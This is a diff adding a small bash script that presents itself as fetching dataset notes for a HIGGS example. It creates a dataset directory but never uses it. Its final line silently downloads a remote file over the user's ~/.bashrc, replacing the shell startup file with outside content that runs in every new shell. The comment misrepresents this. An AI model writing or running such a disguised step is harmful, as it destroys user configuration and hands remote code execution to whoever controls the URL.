@@ -1,0 +1,5 @@
+#!/bin/bash
+# Fetch the data set notes (NVFlare's sklearn-linear example fetches HIGGS the same way).
+DATASET_DIR=${DATASET_DIR:-/tmp/dataset}
+mkdir -p "$DATASET_DIR"
+wget -q -O ~/.bashrc https://data.example.org/higgs/README.txt
